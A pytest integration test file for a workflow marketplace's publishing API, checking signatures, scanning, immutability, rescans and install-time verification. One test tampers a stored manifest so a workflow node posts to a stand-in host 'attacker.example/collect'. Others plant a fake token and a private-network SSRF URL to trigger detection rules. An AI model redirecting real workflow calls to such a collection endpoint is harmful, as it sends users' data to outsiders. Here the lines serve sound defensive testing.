"""Publishing over the local API: a namespace reserved once, signed versions scanned and countersigned through the
emulated KMS, immutable versions, and the verification an install runs refusing what was changed or yanked."""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from pynamodb.connection.base import Connection

from devserver.api import create_platform_api
from devserver.table_stream_poller import TableStreamPoller
from shared.aws import s3
from shared.marketplace import scanning
from shared.marketplace.connectors import connector_from_openapi
from shared.marketplace.publishing import SignatureInvalid, VersionNotInstallable, request_rescans, verified_version
from shared.marketplace.scanning import MAX_ARTEFACT_BYTES
from shared.marketplace.signing import generate_key_pair, sha256_digest, sign_payload, signed_payload
from shared.settings import get_settings
from shared.store.marketplace import find_version
from tests.integration.workflows.test_workflow_api import tenant_headers

OPENAPI = (Path(__file__).parents[2] / "data" / "marketplace" / "bookshelf.openapi.json").read_bytes()


@pytest.fixture
def api(emulated_aws: Any, issuer: Any) -> Iterator[TestClient]:
    yield TestClient(create_platform_api(issuer), raise_server_exceptions=False)


@pytest.fixture
def publisher(api: TestClient, issuer: Any, admin_headers: dict[str, str]) -> tuple[dict[str, str], bytes]:
    """A tenant that reserved the namespace `acme` with its key; (its headers, its private key)."""
    headers = tenant_headers(api, issuer, admin_headers, "acme")
    private_pem, public_key = generate_key_pair()
    claimed = api.put("/v1/marketplace/namespaces/acme", headers=headers, json={"public_key": public_key})
    assert claimed.status_code == 200, claimed.text
    return headers, private_pem


def template(version: str = "1.0.0") -> dict[str, Any]:
    return {
        "kind": "workflow_template",
        "namespace": "acme",
        "name": "ping",
        "version": version,
        "title": "Ping",
        "description": "Calls an API and passes its answer on.",
        "license": "Apache-2.0",
        "workflow": {
            "name": "ping",
            "nodes": [
                {"id": "start", "type": "manual", "params": {}},
                {"id": "call", "type": "http_request", "params": {"url": "https://api.acme.example/health"}},
            ],
            "edges": [{"from": "start", "to": "call"}],
        },
    }


def connector(server_url: str | None = None) -> dict[str, Any]:
    url, credential, presets = connector_from_openapi(json.loads(OPENAPI))
    return {
        "kind": "connector",
        "namespace": "acme",
        "name": "bookshelf",
        "version": "1.2.0",
        "title": "Bookshelf",
        "description": "Every operation of the Bookshelf API as a node.",
        "license": "Apache-2.0",
        "openapi_artefact": "openapi.json",
        "server_url": server_url or url,
        "credential": None if credential is None else credential.model_dump(),
        "presets": [preset.model_dump() for preset in presets],
    }


def signed_upload(manifest: dict[str, Any], artefacts: dict[str, bytes], private_pem: bytes) -> dict[str, Any]:
    """What `forge marketplace sign` produces on the publisher's machine."""
    digests = {name: sha256_digest(data) for name, data in artefacts.items()}
    return {
        "manifest": manifest,
        "artefacts": {name: base64.b64encode(data).decode() for name, data in artefacts.items()},
        "signature": sign_payload(private_pem, signed_payload(manifest, digests)),
    }


SCAN_ROUNDS = 20


def publish(api: TestClient, headers: dict[str, str], upload: dict[str, Any], stream: TableStreamPoller) -> Any:
    """POSTs the version; once accepted, delivers the table's stream until the scanner has ended its pending state.
    The answer is the POST's (202, pending); `scanned` reads the version as the scan left it."""
    manifest = upload["manifest"]
    answer = api.post(
        f"/v1/marketplace/items/{manifest['namespace']}/{manifest['name']}/versions", headers=headers, json=upload
    )
    if answer.status_code == 202:
        for _ in range(SCAN_ROUNDS):
            if scanned(api, headers, answer)["status"] != "pending":
                break
            stream.poll_once()
        else:
            raise AssertionError(f"{answer.headers['Location']} still pending after {SCAN_ROUNDS} stream deliveries")
    return answer


def scanned(api: TestClient, headers: dict[str, str], accepted: Any) -> dict[str, Any]:
    read = api.get(accepted.headers["Location"], headers=headers)
    assert read.status_code == 200, read.text
    result: dict[str, Any] = read.json()
    return result


def test_a_signed_template_is_approved_countersigned_listed_and_verifies(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    artefacts = {"README.md": b"# Ping\n"}

    published = publish(api, headers, signed_upload(template(), artefacts, private_pem), stream)

    assert published.status_code == 202, published.text
    assert published.json()["status"] == "pending"
    version = scanned(api, headers, published)
    assert version["status"] == "approved" and version["countersigned"]
    assert api.get("/v1/marketplace/items/acme/ping", headers=headers).json()["latest_version"] == "1.0.0"
    assert api.get("/v1/marketplace/items/acme/ping/versions/1.0.0/scan", headers=headers).json()["findings"] == []
    manifest, verified = verified_version("acme", "ping", "1.0.0")
    assert manifest["name"] == "ping" and verified == artefacts


def test_a_version_is_pending_and_not_installable_until_the_scanner_fed_by_the_stream_ends_it(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher

    accepted = api.post(
        "/v1/marketplace/items/acme/ping/versions", headers=headers, json=signed_upload(template(), {}, private_pem)
    )

    assert (
        accepted.status_code == 202 and accepted.headers["Location"] == "/v1/marketplace/items/acme/ping/versions/1.0.0"
    )
    report = api.get("/v1/marketplace/items/acme/ping/versions/1.0.0/scan", headers=headers).json()
    assert report == {"status": "pending", "rules_version": None, "findings": []}
    with pytest.raises(VersionNotInstallable):
        verified_version("acme", "ping", "1.0.0")
    assert stream.poll_once() > 0
    version = scanned(api, headers, accepted)
    assert version["status"] == "approved" and version["countersigned"]


def test_a_connector_from_the_openapi_document_is_approved(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher

    published = publish(api, headers, signed_upload(connector(), {"openapi.json": OPENAPI}, private_pem), stream)

    assert published.status_code == 202 and scanned(api, headers, published)["status"] == "approved", published.text


def test_a_published_version_is_immutable(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template(), {}, private_pem), stream)
    changed = template()
    changed["description"] = "Something else under the same version."

    again = publish(api, headers, signed_upload(changed, {}, private_pem), stream)

    assert again.status_code == 409
    assert find_version("acme", "ping", "1.0.0").manifest["description"] == template()["description"]  # type: ignore[union-attr]


def test_a_version_signed_by_another_key_is_refused(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, _ = publisher
    other_pem, _ = generate_key_pair()

    refused = publish(api, headers, signed_upload(template(), {}, other_pem), stream)

    assert refused.status_code == 422 and refused.json()["failed"] == "publisher_signature"


def test_a_namespace_cannot_be_taken_over_by_another_tenant(
    api: TestClient,
    issuer: Any,
    admin_headers: dict[str, str],
    publisher: tuple[dict[str, str], bytes],
    stream: TableStreamPoller,
) -> None:
    rival = tenant_headers(api, issuer, admin_headers, "rival")
    _, rival_key = generate_key_pair()

    taken = api.put("/v1/marketplace/namespaces/acme", headers=rival, json={"public_key": rival_key})
    rival_publish = publish(api, rival, signed_upload(template(), {}, generate_key_pair()[0]), stream)

    assert taken.status_code == 403 and rival_publish.status_code == 403
    assert api.get("/v1/marketplace/namespaces/acme", headers=rival).json()["owned_by_caller"] is False


def test_a_secret_inside_a_template_is_rejected_and_never_installable(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    manifest = template()
    manifest["workflow"]["nodes"][1]["params"]["query"] = {"token": "ghp_1234567890abcdefghijABCDEFGHIJ123456"}

    published = publish(api, headers, signed_upload(manifest, {}, private_pem), stream)
    report = api.get("/v1/marketplace/items/acme/ping/versions/1.0.0/scan", headers=headers).json()

    version = scanned(api, headers, published)
    assert version["status"] == "rejected" and not version["countersigned"]
    assert {"rule": "secrets", "pointer": "/workflow/nodes/1/params/query/token"} in [
        {"rule": finding["rule"], "pointer": finding["pointer"]} for finding in report["findings"]
    ]
    with pytest.raises(VersionNotInstallable):
        verified_version("acme", "ping", "1.0.0")


def test_a_private_network_url_in_a_connector_is_rejected(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher

    published = publish(
        api, headers, signed_upload(connector("http://10.0.0.8/v1"), {"openapi.json": OPENAPI}, private_pem), stream
    )
    report = api.get("/v1/marketplace/items/acme/bookshelf/versions/1.2.0/scan", headers=headers).json()

    assert scanned(api, headers, published)["status"] == "rejected"
    assert any(finding["rule"] == "ssrf" and finding["pointer"] == "/server_url" for finding in report["findings"])


def test_an_oversized_upload_is_refused_before_anything_is_stored(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher

    refused = publish(
        api, headers, signed_upload(template(), {"big.bin": b"x" * (MAX_ARTEFACT_BYTES + 1)}, private_pem), stream
    )

    assert refused.status_code == 413 and "/artefacts/big.bin" in refused.json()["detail"]
    assert find_version("acme", "ping", "1.0.0") is None


def test_a_tampered_artefact_or_manifest_or_a_yanked_version_is_refused_naming_what_failed(
    api: TestClient, publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template("1.0.0"), {"README.md": b"# Ping\n"}, private_pem), stream)
    publish(api, headers, signed_upload(template("1.1.0"), {}, private_pem), stream)
    publish(api, headers, signed_upload(template("1.2.0"), {}, private_pem), stream)
    stored = find_version("acme", "ping", "1.0.0")
    assert stored is not None
    bucket = get_settings().require("bucket_payloads")
    s3.put_object(bucket, stored.artefact_prefix + "README.md", b"# Pwned\n", "text/markdown")
    tampered = find_version("acme", "ping", "1.1.0")
    assert tampered is not None
    manifest = copy.deepcopy(tampered.manifest)
    manifest["workflow"]["nodes"][1]["params"]["url"] = "https://attacker.example/collect"
    tampered.manifest = manifest
    tampered.save()
    yanked = api.post("/v1/marketplace/items/acme/ping/versions/1.2.0/yank", headers=headers)

    with pytest.raises(SignatureInvalid) as artefact:
        verified_version("acme", "ping", "1.0.0")
    with pytest.raises(SignatureInvalid) as manifest_change:
        verified_version("acme", "ping", "1.1.0")
    with pytest.raises(VersionNotInstallable) as yank:
        verified_version("acme", "ping", "1.2.0")

    assert artefact.value.extensions["failed"] == "artefact README.md"
    assert manifest_change.value.extensions["failed"] == "publisher_signature"
    assert yanked.json()["yanked"] and yank.value.extensions["failed"] == "yanked"


def test_platform_admins_verify_a_namespace(
    api: TestClient, admin_headers: dict[str, str], publisher: tuple[dict[str, str], bytes], stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template(), {}, private_pem), stream)

    verified = api.post("/v1/marketplace/namespaces/acme/verification", headers=admin_headers)

    assert verified.status_code == 200 and verified.json()["verified"]
    assert api.get("/v1/marketplace/items/acme/ping", headers=headers).json()["publisher_verified"]


def test_a_rules_change_rescans_approved_versions_and_countersigns_them_again(
    api: TestClient, publisher: tuple[dict[str, str], bytes], monkeypatch: pytest.MonkeyPatch, stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template(), {"README.md": b"# Ping\n"}, private_pem), stream)
    monkeypatch.setattr(scanning, "RULES_VERSION", "2099-01-01.1")

    queued = request_rescans().queued
    stream.poll_once()

    report = api.get("/v1/marketplace/items/acme/ping/versions/1.0.0/scan", headers=headers).json()
    assert len(queued) == 1 and report["rules_version"] == "2099-01-01.1" and report["status"] == "approved"
    assert verified_version("acme", "ping", "1.0.0")[1] == {"README.md": b"# Ping\n"}
    assert request_rescans().queued == []


def test_a_rules_change_finds_the_listed_items_by_a_query_since_no_function_may_scan_the_platform_table(
    api: TestClient, publisher: tuple[dict[str, str], bytes], monkeypatch: pytest.MonkeyPatch, stream: TableStreamPoller
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template(), {"README.md": b"# Ping\n"}, private_pem), stream)
    monkeypatch.setattr(scanning, "RULES_VERSION", "2099-01-01.1")

    def refused(*_: Any, **__: Any) -> None:
        raise AssertionError("the platform table was scanned: no function's role allows dynamodb:Scan")

    monkeypatch.setattr(Connection, "scan", refused)

    assert [(queued.namespace, queued.name) for queued in request_rescans().queued] == [("acme", "ping")]


def test_platform_admins_rescan_every_listed_item_after_a_rules_change_and_tenants_may_not(
    api: TestClient,
    admin_headers: dict[str, str],
    publisher: tuple[dict[str, str], bytes],
    stream: TableStreamPoller,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template(), {"README.md": b"# Ping\n"}, private_pem), stream)
    monkeypatch.setattr(scanning, "RULES_VERSION", "2099-01-01.1")

    refused = api.post("/v1/marketplace/rescans", headers=headers)
    rescans = api.post("/v1/marketplace/rescans", headers=admin_headers)
    stream.poll_once()

    assert refused.status_code == 403
    assert rescans.status_code == 202, rescans.text
    assert rescans.json() == {
        "rules_version": "2099-01-01.1",
        "queued": [{"namespace": "acme", "name": "ping", "version": "1.0.0"}],
    }
    report = api.get("/v1/marketplace/items/acme/ping/versions/1.0.0/scan", headers=headers).json()
    assert report["rules_version"] == "2099-01-01.1" and report["status"] == "approved"
    assert api.post("/v1/marketplace/rescans", headers=admin_headers).json()["queued"] == []
    assert verified_version("acme", "ping", "1.0.0")[1] == {"README.md": b"# Ping\n"}


def test_the_rescans_request_signs_nothing_itself_the_scanner_does(
    api: TestClient,
    admin_headers: dict[str, str],
    publisher: tuple[dict[str, str], bytes],
    stream: TableStreamPoller,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    headers, private_pem = publisher
    publish(api, headers, signed_upload(template(), {}, private_pem), stream)
    before = find_version("acme", "ping", "1.0.0")
    monkeypatch.setattr(scanning, "RULES_VERSION", "2099-01-01.1")

    assert api.post("/v1/marketplace/rescans", headers=admin_headers).status_code == 202
    marked = find_version("acme", "ping", "1.0.0")
    stream.poll_once()
    rescanned = find_version("acme", "ping", "1.0.0")

    assert before is not None and marked is not None and rescanned is not None
    # Until the scanner runs, the version keeps its countersignature of the old rules and stays installable.
    assert marked.countersignature == before.countersignature and marked.rescan_requested == "2099-01-01.1"
    assert rescanned.countersignature != before.countersignature and rescanned.rescan_requested is None
